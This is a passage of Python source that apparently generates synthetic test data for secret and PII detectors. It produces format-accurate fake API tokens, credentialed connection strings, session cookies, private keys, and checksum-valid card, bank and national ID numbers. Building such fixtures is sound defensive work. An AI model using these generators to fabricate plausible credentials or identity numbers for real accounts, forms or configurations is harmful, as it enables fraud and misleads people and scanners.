    ('gitlab-incoming-mail-token', lambda: 'glimt-' + rs(25, ANL), 'incoming_email_token', None),
    ('gitlab-agent-token', lambda: 'glagent-' + rs(50, B64U), 'AGENTK_TOKEN', None),
    ('gitlab-scim-token', lambda: 'glsoat-' + rs(20, B64U), 'SCIM_TOKEN', 'Authorization: Bearer {}'),
    ('bitbucket-app-password', lambda: 'ATBB' + rs(32, AN), 'BITBUCKET_APP_PASSWORD', None),
    ('atlassian-api-token', lambda: 'ATATT3xFfGF0' + rs(170, B64U) + '=' + rs(8, HU), 'JIRA_API_TOKEN', None),
    ('npm-access-token', lambda: 'npm_' + rs(36, AN), 'NPM_TOKEN', 'Authorization: Bearer {}'),
    ('pypi-upload-token', lambda: 'pypi-AgEIcHlwaS5vcmc' + rs(150, B64U), 'TWINE_PASSWORD', None),
    ('rubygems-api-key', lambda: 'rubygems_' + hx(48), 'GEM_HOST_API_KEY', 'Authorization: {}'),
    ('nuget-api-key', lambda: 'oy2' + rs(43, ANL), 'NUGET_API_KEY', 'X-NuGet-ApiKey: {}'),
    ('dockerhub-pat', lambda: 'dckr_pat_' + rs(27, B64U), 'DOCKERHUB_TOKEN', None),
    ('dockerhub-org-access-token', lambda: 'dckr_oat_' + rs(32, B64U), 'DOCKER_OAT', None),
    ('jfrog-api-key', lambda: 'AKCp8' + rs(68, AN), 'ARTIFACTORY_API_KEY', 'X-JFrog-Art-Api: {}'),
    ('jfrog-identity-token', lambda: 'cmVmdGtuOjAxOj' + rs(50, AN), 'JFROG_ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('sonarqube-user-token', lambda: 'squ_' + hx(40), 'SONAR_TOKEN', None),
    ('sonarqube-project-token', lambda: 'sqp_' + hx(40), 'SONAR_TOKEN', None),
    ('sonarqube-global-token', lambda: 'sqa_' + hx(40), 'SONAR_TOKEN', None),
    ('circleci-pat', lambda: 'CCIPAT_' + rs(22, AN) + '_' + hx(40), 'CIRCLECI_TOKEN', 'Circle-Token: {}'),
    ('buildkite-api-token', lambda: 'bkua_' + hx(40), 'BUILDKITE_API_TOKEN', 'Authorization: Bearer {}'),
    ('terraform-cloud-token', lambda: rs(14, AN) + '.atlasv1.' + rs(67, AN), 'TFE_TOKEN', 'Authorization: Bearer {}'),
    ('vault-service-token', lambda: 'hvs.CAESI' + rs(86, B64U), 'VAULT_TOKEN', 'X-Vault-Token: {}'),
    ('vault-batch-token', lambda: 'hvb.AAAAAQ' + rs(130, B64U), 'VAULT_TOKEN', 'X-Vault-Token: {}'),
    ('doppler-personal-token', lambda: 'dp.pt.' + rs(43, AN), 'DOPPLER_TOKEN', None),
    ('doppler-service-token', lambda: 'dp.st.' + ch(['dev', 'prd', 'stg']) + '.' + rs(40, AN), 'DOPPLER_TOKEN', None),
    ('doppler-cli-token', lambda: 'dp.ct.' + rs(43, AN), 'DOPPLER_TOKEN', None),
    ('doppler-service-account-token', lambda: 'dp.sa.' + rs(43, AN), 'DOPPLER_TOKEN', None),
    ('pulumi-access-token', lambda: 'pul-' + hx(40), 'PULUMI_ACCESS_TOKEN', 'Authorization: token {}'),
    ('postman-api-key', lambda: 'PMAK-' + hx(24) + '-' + hx(34), 'POSTMAN_API_KEY', 'X-Api-Key: {}'),
    ('linear-api-key', lambda: 'lin_api_' + rs(40, AN), 'LINEAR_API_KEY', 'Authorization: {}'),
    ('notion-integration-secret', lambda: 'secret_' + rs(43, AN), 'NOTION_TOKEN', 'Authorization: Bearer {}'),
    ('notion-ntn-token', lambda: 'ntn_' + dg(11) + rs(35, AN), 'NOTION_API_KEY', 'Authorization: Bearer {}'),
    ('airtable-pat', lambda: 'pat' + rs(14, AN) + '.' + hx(64), 'AIRTABLE_API_KEY', 'Authorization: Bearer {}'),
    ('asana-pat', lambda: '2/' + dg(16) + '/' + dg(16) + ':' + hx(32), 'ASANA_TOKEN', 'Authorization: Bearer {}'),
    ('clickup-api-token', lambda: 'pk_' + dg(8) + '_' + rs(32, ANU), 'CLICKUP_TOKEN', 'Authorization: {}'),
    ('trello-api-token', lambda: 'ATTA' + hx(64) + rs(8, HU), 'TRELLO_TOKEN', None),
    ('figma-pat', lambda: 'figd_' + rs(40, B64U), 'FIGMA_TOKEN', 'X-Figma-Token: {}'),
    ('dropbox-access-token', lambda: 'sl.B' + rs(134, B64U), 'DROPBOX_TOKEN', 'Authorization: Bearer {}'),
    ('hubspot-private-app-token', lambda: 'pat-na1-' + uuid4(), 'HUBSPOT_TOKEN', 'Authorization: Bearer {}'),
    ('mailchimp-api-key', lambda: hx(32) + '-us' + str(ri(1, 21)), 'MAILCHIMP_API_KEY', None),
    ('mailgun-api-key', lambda: 'key-' + hx(32), 'MAILGUN_API_KEY', None),
    ('sendgrid-api-key', lambda: 'SG.' + rs(22, B64U) + '.' + rs(43, B64U), 'SENDGRID_API_KEY', 'Authorization: Bearer {}'),
    ('brevo-api-key', lambda: 'xkeysib-' + hx(64) + '-' + rs(16, AN), 'BREVO_API_KEY', 'api-key: {}'),
    ('resend-api-key', lambda: 're_' + rs(8, AN) + '_' + rs(24, AN), 'RESEND_API_KEY', 'Authorization: Bearer {}'),
    ('postmark-server-token', lambda: uuid4(), 'POSTMARK_SERVER_TOKEN', 'X-Postmark-Server-Token: {}'),
    ('twilio-auth-token', lambda: 'AC' + hx(32) + ':' + hx(32), 'TWILIO_CREDENTIALS', None),
    ('twilio-api-key', lambda: 'SK' + hx(32), 'TWILIO_API_KEY', None),
    ('vonage-api-secret', lambda: rs(16, AN), 'VONAGE_API_SECRET', None),
    ('telegram-bot-token', lambda: str(ri(10**8, 10**10 - 1)) + ':AA' + rs(33, B64U), 'TELEGRAM_BOT_TOKEN', None),
    ('discord-bot-token', lambda: b64u(str(ri(10**17, 10**18 - 1))) + '.' + rs(6, B64U) + '.' + rs(38, B64U), 'DISCORD_TOKEN', 'Authorization: Bot {}'),
    ('slack-bot-token', lambda: 'xoxb-' + dg(11) + '-' + dg(13) + '-' + rs(24, AN), 'SLACK_BOT_TOKEN', 'Authorization: Bearer {}'),
    ('slack-user-token', lambda: 'xoxp-' + dg(11) + '-' + dg(11) + '-' + dg(13) + '-' + hx(32), 'SLACK_USER_TOKEN', 'Authorization: Bearer {}'),
    ('slack-app-token', lambda: 'xapp-1-A' + rs(10, ANU) + '-' + dg(13) + '-' + hx(64), 'SLACK_APP_TOKEN', 'Authorization: Bearer {}'),
    ('slack-config-token', lambda: 'xoxe.xoxp-1-' + rs(150, AN), 'SLACK_CONFIG_TOKEN', None),
    ('slack-refresh-token', lambda: 'xoxe-1-' + rs(140, AN), 'SLACK_REFRESH_TOKEN', None),
    ('meta-graph-access-token', lambda: 'EAAG' + rs(180, AN), 'FB_ACCESS_TOKEN', None),
    ('twitter-bearer-token', lambda: 'AAAAAAAAAAAAAAAAAAAAA' + rs(25, AN) + '%3D' + rs(50, AN), 'TWITTER_BEARER_TOKEN', 'Authorization: Bearer {}'),
    ('shopify-access-token', lambda: 'shpat_' + hx(32), 'SHOPIFY_ACCESS_TOKEN', 'X-Shopify-Access-Token: {}'),
    ('shopify-custom-app-token', lambda: 'shpca_' + hx(32), 'SHOPIFY_TOKEN', 'X-Shopify-Access-Token: {}'),
    ('shopify-private-app-password', lambda: 'shppa_' + hx(32), 'SHOPIFY_PASSWORD', None),
    ('shopify-shared-secret', lambda: 'shpss_' + hx(32), 'SHOPIFY_API_SECRET', None),
    ('stripe-live-secret-key', lambda: 'sk_live_' + rs(99, AN), 'STRIPE_SECRET_KEY', 'Authorization: Bearer {}'),
    ('stripe-restricted-key', lambda: 'rk_live_' + rs(99, AN), 'STRIPE_RESTRICTED_KEY', 'Authorization: Bearer {}'),
    ('stripe-test-secret-key', lambda: 'sk_test_' + rs(99, AN), 'STRIPE_TEST_KEY', None),
    ('stripe-webhook-secret', lambda: 'whsec_' + rs(32, AN), 'STRIPE_WEBHOOK_SECRET', None),
    ('square-access-token', lambda: 'EAAA' + rs(60, B64U), 'SQUARE_ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('square-oauth-secret', lambda: 'sq0csp-' + rs(43, B64U), 'SQUARE_APP_SECRET', None),
    ('braintree-access-token', lambda: 'access_token$production$' + rs(16, ANL) + '$' + hx(32), 'BRAINTREE_TOKEN', None),
    ('razorpay-live-key', lambda: 'rzp_live_' + rs(14, AN) + ':' + rs(24, AN), 'RAZORPAY_KEY', None),
    ('paystack-secret-key', lambda: 'sk_live_' + hx(40), 'PAYSTACK_SECRET_KEY', 'Authorization: Bearer {}'),
    ('flutterwave-secret-key', lambda: 'FLWSECK-' + hx(32) + '-X', 'FLW_SECRET_KEY', 'Authorization: Bearer {}'),
    ('plaid-access-token', lambda: 'access-production-' + uuid4(), 'PLAID_ACCESS_TOKEN', None),
    ('mollie-live-api-key', lambda: 'live_' + rs(30, AN), 'MOLLIE_API_KEY', 'Authorization: Bearer {}'),
    ('gocardless-live-token', lambda: 'live_' + rs(40, B64U), 'GOCARDLESS_ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('shippo-live-token', lambda: 'shippo_live_' + hx(40), 'SHIPPO_TOKEN', 'Authorization: ShippoToken {}'),
    ('easypost-api-key', lambda: 'EZAK' + rs(54, AN), 'EASYPOST_API_KEY', None),
    ('duffel-live-token', lambda: 'duffel_live_' + rs(43, B64U), 'DUFFEL_TOKEN', 'Authorization: Bearer {}'),
    ('openai-project-key', lambda: 'sk-proj-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U), 'OPENAI_API_KEY', 'Authorization: Bearer {}'),
    ('openai-legacy-key', lambda: 'sk-' + rs(20, AN) + 'T3BlbkFJ' + rs(20, AN), 'OPENAI_API_KEY', 'Authorization: Bearer {}'),
    ('openai-admin-key', lambda: 'sk-admin-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U), 'OPENAI_ADMIN_KEY', 'Authorization: Bearer {}'),
    ('openai-service-account-key', lambda: 'sk-svcacct-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U), 'OPENAI_API_KEY', 'Authorization: Bearer {}'),
    ('anthropic-api-key', lambda: 'sk-ant-api03-' + rs(93, B64U) + 'AA', 'ANTHROPIC_API_KEY', 'x-api-key: {}'),
    ('anthropic-admin-key', lambda: 'sk-ant-admin01-' + rs(93, B64U) + 'AA', 'ANTHROPIC_ADMIN_KEY', 'x-api-key: {}'),
    ('huggingface-token', lambda: 'hf_' + rs(34, UP + LO), 'HF_TOKEN', 'Authorization: Bearer {}'),
    ('replicate-api-token', lambda: 'r8_' + rs(37, AN), 'REPLICATE_API_TOKEN', 'Authorization: Bearer {}'),
    ('groq-api-key', lambda: 'gsk_' + rs(52, AN), 'GROQ_API_KEY', 'Authorization: Bearer {}'),
    ('perplexity-api-key', lambda: 'pplx-' + rs(48, AN), 'PERPLEXITY_API_KEY', 'Authorization: Bearer {}'),
    ('openrouter-api-key', lambda: 'sk-or-v1-' + hx(64), 'OPENROUTER_API_KEY', 'Authorization: Bearer {}'),
    ('xai-api-key', lambda: 'xai-' + rs(80, AN), 'XAI_API_KEY', 'Authorization: Bearer {}'),
    ('deepseek-api-key', lambda: 'sk-' + hx(32), 'DEEPSEEK_API_KEY', 'Authorization: Bearer {}'),
    ('mistral-api-key', lambda: rs(32, AN), 'MISTRAL_API_KEY', 'Authorization: Bearer {}'),
    ('cohere-api-key', lambda: rs(40, AN), 'COHERE_API_KEY', 'Authorization: Bearer {}'),
    ('together-api-key', lambda: hx(64), 'TOGETHER_API_KEY', 'Authorization: Bearer {}'),
    ('fireworks-api-key', lambda: 'fw_' + rs(24, AN), 'FIREWORKS_API_KEY', 'Authorization: Bearer {}'),
    ('langsmith-api-key', lambda: 'lsv2_pt_' + hx(32) + '_' + hx(10), 'LANGSMITH_API_KEY', 'x-api-key: {}'),
    ('pinecone-api-key', lambda: 'pcsk_' + rs(6, AN) + '_' + rs(63, AN), 'PINECONE_API_KEY', 'Api-Key: {}'),
    ('elevenlabs-api-key', lambda: 'sk_' + hx(48), 'ELEVENLABS_API_KEY', 'xi-api-key: {}'),
    ('wandb-api-key', lambda: hx(40), 'WANDB_API_KEY', None),
    ('nvidia-api-key', lambda: 'nvapi-' + rs(64, B64U), 'NVIDIA_API_KEY', 'Authorization: Bearer {}'),
    ('datadog-api-key', lambda: hx(32), 'DD_API_KEY', 'DD-API-KEY: {}'),
    ('datadog-app-key', lambda: hx(40), 'DD_APP_KEY', 'DD-APPLICATION-KEY: {}'),
    ('newrelic-user-api-key', lambda: 'NRAK-' + rs(27, ANU), 'NEW_RELIC_API_KEY', 'Api-Key: {}'),
    ('newrelic-license-key', lambda: hx(36) + 'NRAL', 'NEW_RELIC_LICENSE_KEY', 'X-License-Key: {}'),
    ('newrelic-insert-key', lambda: 'NRII-' + rs(32, B64U), 'NEW_RELIC_INSERT_KEY', 'X-Insert-Key: {}'),
    ('sentry-auth-token', lambda: 'sntrys_' + b64u(json.dumps({"iat": epoch() + .5, "url": "https://sentry.io", "region_url": "https://us.sentry.io", "org": word()})) + '_' + rs(43, B64U), 'SENTRY_AUTH_TOKEN', 'Authorization: Bearer {}'),
    ('sentry-user-token', lambda: 'sntryu_' + hx(64), 'SENTRY_AUTH_TOKEN', 'Authorization: Bearer {}'),
    ('grafana-cloud-token', lambda: 'glc_' + b64(json.dumps({"o": dg(6), "n": word() + "-key", "k": rs(24), "m": {"r": "prod-us-east-0"}}, separators=(',', ':'))), 'GRAFANA_CLOUD_TOKEN', 'Authorization: Bearer {}'),
    ('grafana-service-account-token', lambda: 'glsa_' + rs(32, AN) + '_' + hx(8), 'GRAFANA_TOKEN', 'Authorization: Bearer {}'),
    ('honeycomb-ingest-key', lambda: 'hcaik_' + rs(58, ANL), 'HONEYCOMB_API_KEY', 'X-Honeycomb-Team: {}'),
    ('splunk-hec-token', lambda: uuid4(), 'SPLUNK_HEC_TOKEN', 'Authorization: Splunk {}'),
    ('dynatrace-api-token', lambda: 'dt0c01.' + rs(24, ANU) + '.' + rs(64, ANU), 'DT_API_TOKEN', 'Authorization: Api-Token {}'),
    ('rollbar-access-token', lambda: hx(32), 'ROLLBAR_ACCESS_TOKEN', 'X-Rollbar-Access-Token: {}'),
    ('bugsnag-api-key', lambda: hx(32), 'BUGSNAG_API_KEY', 'Bugsnag-Api-Key: {}'),
    ('pagerduty-api-token', lambda: 'u+' + rs(18, B64U), 'PAGERDUTY_TOKEN', 'Authorization: Token token={}'),
    ('opsgenie-api-key', lambda: uuid4(), 'OPSGENIE_API_KEY', 'Authorization: GenieKey {}'),
    ('elastic-api-key', lambda: b64(rs(20, B64U) + ':' + rs(22, B64U)), 'ELASTIC_API_KEY', 'Authorization: ApiKey {}'),
    ('axiom-api-token', lambda: 'xaat-' + uuid4(), 'AXIOM_TOKEN', 'Authorization: Bearer {}'),
    ('okta-api-token', lambda: '00' + rs(40, B64U), 'OKTA_API_TOKEN', 'Authorization: SSWS {}'),
    ('auth0-client-secret', lambda: rs(64, B64U), 'AUTH0_CLIENT_SECRET', None),
    ('onepassword-service-account-token', lambda: 'ops_' + b64u(json.dumps({"signInAddress": "my.1password.com", "userAuth": {"method": "SRPg-4096", "alg": "PBES2g-HS256", "iterations": 650000, "salt": b64u(rb(16))}, "email": rs(12, ANL) + "@1passwordserviceaccounts.com", "srpX": hx(64), "muk": {"alg": "A256GCM", "ext": True, "k": b64u(rb(32)), "key_ops": ["encrypt", "decrypt"], "kty": "oct", "kid": "mp"}, "secretKey": "A3-" + rs(6, ANU) + "-" + rs(6, ANU) + "-" + rs(5, ANU) + "-" + rs(5, ANU) + "-" + rs(5, ANU) + "-" + rs(5, ANU), "throttleSecret": {"seed": hx(64), "uuid": rs(26, ANU)}, "deviceUuid": rs(26, ANL)}, separators=(',', ':'))), 'OP_SERVICE_ACCOUNT_TOKEN', None),
    ('onepassword-secret-key', lambda: 'A3-' + rs(6, ANU) + '-' + rs(6, ANU) + '-' + '-'.join(rs(5, ANU) for _ in range(4)), 'OP_SECRET_KEY', None),
    ('age-secret-key', lambda: 'AGE-SECRET-KEY-1' + rs(58, 'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L'), 'SOPS_AGE_KEY', None),
    ('wireguard-private-key', lambda: b64(rb(32)), 'WG_PRIVATE_KEY', None),
    ('ethereum-private-key', lambda: '0x' + hx(64), 'DEPLOYER_PRIVATE_KEY', None),
    ('bitcoin-wif-private-key', lambda: b58check(b'\x80' + rb(32) + b'\x01'), 'BTC_WIF', None),
    ('mapbox-secret-token', lambda: 'sk.eyJ1Ijoi' + rs(40, B64U) + '.' + rs(22, B64U), 'MAPBOX_SECRET_TOKEN', None),
    ('algolia-admin-api-key', lambda: hx(32), 'ALGOLIA_ADMIN_KEY', 'X-Algolia-API-Key: {}'),
    ('contentful-management-token', lambda: 'CFPAT-' + rs(43, B64U), 'CONTENTFUL_MANAGEMENT_TOKEN', 'Authorization: Bearer {}'),
    ('launchdarkly-sdk-key', lambda: 'sdk-' + uuid4(), 'LAUNCHDARKLY_SDK_KEY', 'Authorization: {}'),
    ('launchdarkly-api-token', lambda: 'api-' + uuid4(), 'LD_API_TOKEN', 'Authorization: {}'),
    ('typeform-pat', lambda: 'tfp_' + rs(44, B64U) + '_' + rs(14, B64U), 'TYPEFORM_TOKEN', 'Authorization: Bearer {}'),
    ('zendesk-api-token', lambda: rs(40, AN), 'ZENDESK_API_TOKEN', None),
    ('jenkins-api-token', lambda: '11' + hx(32), 'JENKINS_API_TOKEN', None),
    ('databricks-pat', lambda: 'dapi' + hx(32), 'DATABRICKS_TOKEN', 'Authorization: Bearer {}'),
    ('prefect-api-key', lambda: 'pnu_' + rs(36, AN), 'PREFECT_API_KEY', 'Authorization: Bearer {}'),
    ('confluent-api-secret', lambda: rs(64, AN), 'CONFLUENT_API_SECRET', None),
    ('yandex-cloud-api-key', lambda: 'AQVN' + rs(36, B64U), 'YC_API_KEY', 'Authorization: Api-Key {}'),
    ('yandex-oauth-token', lambda: 'y0_AgAAAA' + rs(50, B64U), 'YANDEX_OAUTH', 'Authorization: OAuth {}'),
    ('tailscale-auth-key', lambda: 'tskey-auth-' + rs(17, AN) + '-' + rs(33, AN), 'TS_AUTHKEY', None),
    ('tailscale-api-key', lambda: 'tskey-api-' + rs(17, AN) + '-' + rs(33, AN), 'TS_API_KEY', 'Authorization: Bearer {}'),
    ('ngrok-authtoken', lambda: '2' + rs(26, AN) + '_' + rs(21, AN), 'NGROK_AUTHTOKEN', None),
    ('harness-pat', lambda: 'pat.' + rs(22, B64U) + '.' + hx(24) + '.' + rs(20, AN), 'HARNESS_API_KEY', 'x-api-key: {}'),
    ('octopus-deploy-api-key', lambda: 'API-' + rs(26, ANU), 'OCTOPUS_API_KEY', 'X-Octopus-ApiKey: {}'),
    ('readme-api-key', lambda: 'rdme_' + hx(70), 'README_API_KEY', None),
    ('infracost-api-key', lambda: 'ico-' + rs(32, AN), 'INFRACOST_API_KEY', 'X-Api-Key: {}'),
    ('scalingo-api-token', lambda: 'tk-us-' + rs(48, B64U), 'SCALINGO_API_TOKEN', None),
    ('influxdb-token', lambda: rs(86, B64U) + '==', 'INFLUX_TOKEN', 'Authorization: Token {}'),
    ('jwt-bearer-token', lambda: jwt({"sub": uuid4(), "iss": "https://auth." + word() + ".example.com", "aud": "api", "iat": epoch(), "exp": epoch() + 3600, "scope": "read write admin"}), 'ACCESS_TOKEN', 'Authorization: Bearer {}'),
    ('supabase-service-role-jwt', lambda: jwt({"iss": "supabase", "ref": rs(20, LO), "role": "service_role", "iat": epoch(), "exp": epoch() + 10**8}), 'SUPABASE_SERVICE_ROLE_KEY', 'apikey: {}'),
    ('kubernetes-service-account-token', lambda: jwt({"aud": ["https://kubernetes.default.svc"], "exp": epoch(), "iss": "https://kubernetes.default.svc", "kubernetes.io": {"namespace": "prod", "serviceaccount": {"name": "deployer", "uid": uuid4()}}, "sub": "system:serviceaccount:prod:deployer"}), 'KUBE_TOKEN', 'Authorization: Bearer {}'),
    ('github-actions-oidc-jwt', lambda: jwt({"iss": "https://token.actions.githubusercontent.com", "sub": f"repo:{word()}/{word()}:ref:refs/heads/main", "aud": "sts.amazonaws.com", "jti": uuid4(), "exp": epoch()}), 'ACTIONS_ID_TOKEN', 'Authorization: Bearer {}'),
    ('basic-auth-credentials', lambda: b64(f"{ch(FIRST).lower()}:{pwa()}"), 'BASIC_AUTH', 'Authorization: Basic {}'),
    ('express-session-cookie', lambda: 'connect.sid=s%3A' + rs(32, B64U) + '.' + up.quote(b64(rb(32)).rstrip('='), safe=''), 'session_cookie', 'Cookie: {}'),
    ('django-session-cookie', lambda: 'sessionid=' + rs(32, ANL), 'session_cookie', 'Cookie: csrftoken=' + rs(32, AN) + '; {}'),
    ('php-session-cookie', lambda: 'PHPSESSID=' + rs(26, ANL), 'session_cookie', 'Cookie: {}'),
    ('rails-session-cookie', lambda: '_' + word() + '_session=' + up.quote(b64(rb(60)), safe='') + '--' + hx(40), 'session_cookie', 'Cookie: {}'),
    ('laravel-session-cookie', lambda: 'laravel_session=' + up.quote(b64(json.dumps({"iv": b64(rb(16)), "value": b64(rb(48)), "mac": hx(64), "tag": ""}, separators=(',', ':'))), safe=''), 'session_cookie', 'Cookie: {}'),
    ('aspnetcore-auth-cookie', lambda: '.AspNetCore.Cookies=CfDJ8' + rs(300, B64U), 'session_cookie', 'Cookie: {}'),
    ('flask-session-cookie', lambda: 'session=' + b64u(json.dumps({"_user_id": str(ri(1, 99999)), "_fresh": True})) + '.' + rs(6, B64U) + '.' + rs(27, B64U), 'session_cookie', 'Cookie: {}'),
    ('java-jsessionid-cookie', lambda: 'JSESSIONID=' + rs(32, HU), 'session_cookie', 'Cookie: {}'),
    ]


def _conn():
    H = lambda s: f"{word()}-{s}.{ch(['internal.example.com', 'prod.example.net', 'db.example.org'])}"
    u = lambda: ch(['app', 'admin', 'svc_' + word(), 'root', 'deploy'])
    return [
    ('postgres-uri-with-password', lambda: f"postgresql://{u()}:{pwa()}@{H('pg')}:5432/{word()}?sslmode=require", 'DATABASE_URL', None),
    ('mysql-uri-with-password', lambda: f"mysql://{u()}:{pwa()}@{H('mysql')}:3306/{word()}", 'MYSQL_URL', None),
    ('mongodb-srv-uri-with-password', lambda: f"mongodb+srv://{u()}:{pwa()}@cluster0.{rs(5, ANL)}.mongodb.net/{word()}?retryWrites=true&w=majority", 'MONGODB_URI', None),
    ('redis-uri-with-password', lambda: f"rediss://default:{pwa(32)}@{H('redis')}:6380/0", 'REDIS_URL', None),
    ('amqp-uri-with-password', lambda: f"amqps://{u()}:{pwa()}@{H('mq')}:5671/{word()}", 'AMQP_URL', None),
    ('mssql-connection-string', lambda: f"Server=tcp:{word()}.database.windows.net,1433;Initial Catalog={word()};User ID={u()};Password={pw()};Encrypt=True;", 'SQLSERVER_CONNECTION', None),
    ('jdbc-url-with-password', lambda: f"jdbc:postgresql://{H('pg')}:5432/{word()}?user={u()}&password={pwa()}", 'SPRING_DATASOURCE_URL', None),
    ('smtp-uri-with-password', lambda: f"smtps://{email()}:{pwa()}@smtp.{ch(['example.com', 'mail.example.org'])}:465", 'SMTP_URL', None),
    ('ftp-url-with-password', lambda: f"ftp://{u()}:{pwa()}@ftp.{word()}.example.com/uploads/", 'FTP_URL', None),
    ('elasticsearch-url-with-password', lambda: f"https://elastic:{pwa()}@{H('es')}:9200", 'ELASTICSEARCH_URL', None),
    ('kafka-sasl-jaas-config', lambda: f'org.apache.kafka.common.security.plain.PlainLoginModule required username="{rs(16, ANU)}" password="{rs(64, B64)}";', 'KAFKA_SASL_JAAS_CONFIG', None),
    ('snowflake-uri-with-password', lambda: f"snowflake://{u()}:{pwa()}@{rs(7, LO)}-{rs(7, LO)}/{word()}/public?warehouse=COMPUTE_WH", 'SNOWFLAKE_URL', None),
    ('clickhouse-uri-with-password', lambda: f"clickhouse://{u()}:{pwa()}@{H('ch')}:9440/default?secure=true", 'CLICKHOUSE_URL', None),
    ('neo4j-uri-with-password', lambda: f"neo4j+s://neo4j:{pwa()}@{rs(8, ANL)}.databases.neo4j.io", 'NEO4J_URL', None),
    ('mqtt-uri-with-password', lambda: f"mqtts://{u()}:{pwa()}@{H('mqtt')}:8883", 'MQTT_URL', None),
    ('proxy-url-with-credentials', lambda: f"http://{u()}:{pwa()}@proxy.{word()}.example.com:3128", 'HTTPS_PROXY', None),
    ('git-credentials-url', lambda: f"https://{ch(FIRST).lower()}:{gh('ghp_')}@github.com/{word()}/{word()}.git", 'GIT_REMOTE', None),
    ('azure-storage-connection-string', lambda: f"DefaultEndpointsProtocol=https;AccountName={word()}{rs(4, ANL)};AccountKey={rs(86, B64)}==;EndpointSuffix=core.windows.net", 'AZURE_STORAGE_CONNECTION_STRING', None),
    ('azure-service-bus-connection-string', lambda: f"Endpoint=sb://{word()}-bus.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey={b64(rb(32))}", 'SERVICEBUS_CONNECTION', None),
    ('azure-cosmosdb-connection-string', lambda: f"AccountEndpoint=https://{word()}-cosmos.documents.azure.com:443/;AccountKey={rs(86, B64)}==;", 'COSMOS_CONNECTION', None),
    ('slack-incoming-webhook-url', lambda: f"https://hooks.slack.com/services/T{rs(10, ANU)}/B{rs(10, ANU)}/{rs(24, AN)}", 'SLACK_WEBHOOK_URL', None),
    ('slack-workflow-webhook-url', lambda: f"https://hooks.slack.com/triggers/T{rs(10, ANU)}/{dg(13)}/{hx(32)}", 'SLACK_WORKFLOW_URL', None),
    ('discord-webhook-url', lambda: f"https://discord.com/api/webhooks/{dg(19)}/{rs(68, B64U)}", 'DISCORD_WEBHOOK', None),
    ('teams-incoming-webhook-url', lambda: f"https://{word()}.webhook.office.com/webhookb2/{uuid4()}@{uuid4()}/IncomingWebhook/{hx(32)}/{uuid4()}", 'TEAMS_WEBHOOK', None),
    ('sentry-dsn', lambda: f"https://{hx(32)}@o{dg(6)}.ingest.sentry.io/{dg(7)}", 'SENTRY_DSN', None),
    ('google-chat-webhook-url', lambda: f"https://chat.googleapis.com/v1/spaces/AAAA{rs(7, B64U)}/messages?key=AIza{rs(35, B64U)}&token={rs(43, B64U)}%3D", 'GCHAT_WEBHOOK', None),
    ('zapier-webhook-url', lambda: f"https://hooks.zapier.com/hooks/catch/{dg(8)}/{rs(6, ANL)}/", 'ZAPIER_HOOK', None),
    ('aws-presigned-url-credential', lambda: f"https://{word()}-exports.s3.amazonaws.com/report.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIA{rs(16, B32)}%2F20240301%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20240301T120000Z&X-Amz-Expires=604800&X-Amz-Security-Token=IQoJb3JpZ2luX2VjE{up.quote(rs(200, B64), safe='')}&X-Amz-SignedHeaders=host&X-Amz-Signature={hx(64)}", 'PRESIGNED_URL', None),
    ]


def _pii():
    return [
    ('payment-card-visa', lambda: fmt_card(card(['4'], 16)), 'card_number'),
    ('payment-card-mastercard', lambda: fmt_card(card(['51', '52', '53', '54', '55', '2221', '2500', '2720'], 16)), 'card_number'),
    ('payment-card-amex', lambda: fmt_card(card(['34', '37'], 15)), 'card_number'),
    ('payment-card-discover', lambda: fmt_card(card(['6011', '65', '644'], 16)), 'card_number'),
    ('payment-card-jcb', lambda: fmt_card(card([str(ri(3528, 3589))], 16)), 'card_number'),
    ('payment-card-diners', lambda: fmt_card(card(['36', '38', '300', '305'], 14)), 'card_number'),
    ('payment-card-unionpay', lambda: card(['62'], ch([16, 19])), 'card_number'),
    ('payment-card-maestro', lambda: fmt_card(card(['6759', '5018', '5020', '6304'], 16)), 'card_number'),
    ('payment-card-track2-data', track2, 'track2'),
    ('iban-de', lambda: iban('DE'), 'iban'), ('iban-gb', lambda: iban('GB'), 'iban'), ('iban-fr', lambda: iban('FR'), 'iban'),
    ('iban-es', lambda: iban('ES'), 'iban'), ('iban-it', lambda: iban('IT'), 'iban'), ('iban-nl', lambda: iban('NL'), 'iban'),
    ('iban-be', lambda: iban('BE'), 'iban'), ('iban-ch', lambda: iban('CH'), 'iban'), ('iban-at', lambda: iban('AT'), 'iban'),
    ('iban-pl', lambda: iban('PL'), 'iban'), ('iban-se', lambda: iban('SE'), 'iban'), ('iban-no', lambda: iban('NO'), 'iban'),
    ('iban-ie', lambda: iban('IE'), 'iban'), ('iban-pt', lambda: iban('PT'), 'iban'), ('iban-dk', lambda: iban('DK'), 'iban'),
    ('iban-fi', lambda: iban('FI'), 'iban'),
    ('us-bank-routing-and-account', routing_acct, 'bank_account'),
    ('us-ssn', ssn, 'ssn'), ('us-itin', itin, 'itin'), ('us-medicare-mbi', mbi, 'medicare_id'),
    ('uk-national-insurance-number', nino, 'ni_number'), ('uk-nhs-number', nhs, 'nhs_number'),
    ('ca-social-insurance-number', sin, 'sin'), ('fr-nir-insee', nir, 'numero_securite_sociale'),
    ('de-steuer-id', steuer_id, 'steuer_id'), ('de-personalausweis-number', perso, 'ausweisnummer'),
    ('es-dni', dni, 'dni'), ('es-nie', nie, 'nie'), ('it-codice-fiscale', codice_fiscale, 'codice_fiscale'),
    ('nl-bsn', bsn, 'bsn'), ('be-national-register-number', be_nn, 'rijksregisternummer'),
    ('se-personnummer', personnummer, 'personnummer'), ('no-fodselsnummer', fnr, 'fodselsnummer'),
    ('dk-cpr-number', cpr, 'cpr'), ('fi-hetu', hetu, 'henkilotunnus'), ('pl-pesel', pesel, 'pesel'),
    ('pt-nif', pt_nif, 'nif'), ('br-cpf', cpf, 'cpf'), ('br-cnpj', cnpj, 'cnpj'), ('mx-curp', curp, 'curp'),
    ('ar-cuit', cuit, 'cuit'), ('cl-rut', rut, 'rut'), ('in-aadhaar', aadhaar, 'aadhaar'), ('in-pan', pan, 'pan'),
